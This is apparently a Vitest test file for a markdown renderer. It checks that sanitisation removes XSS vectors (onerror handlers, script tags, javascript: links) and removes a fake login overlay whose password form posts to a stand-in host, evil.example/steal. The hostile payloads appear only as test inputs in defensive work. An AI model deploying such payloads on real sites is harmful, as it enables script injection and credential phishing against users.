// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './Markdown';

describe('renderMarkdown', () => {
  it('renders markdown and strips executable HTML', () => {
    const html = renderMarkdown(
      '**bold** <img src=x onerror=alert(1)> <script>alert(2)</script> [a](javascript:alert(3))',
    );
    expect(html).toContain('<strong>bold</strong>');
    expect(html).not.toMatch(/onerror|<script|javascript:/);
  });
  it('drops style attributes, <style> and forms: no fake login page drawn over the site', () => {
    const html = renderMarkdown(
      '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Log in</div>' +
        '<style>body{display:none}</style>' +
        '<form action="https://evil.example/steal"><input name="password" type="password"><button>Go</button></form>' +
        '<iframe src="https://evil.example"></iframe>',
    );
    expect(html).toContain('Log in');
    expect(html).not.toMatch(/style|<form|<input|<button|<iframe|evil\.example/);
  });
  it('a substitute step runs before the sanitiser', () => {
    const html = renderMarkdown('x', { substitute: (h) => `${h}<img src=x onerror=alert(1)>` });
    expect(html).not.toContain('onerror');
  });
  it('treats null as empty', () => {
    expect(renderMarkdown(null)).toBe('');
  });
});
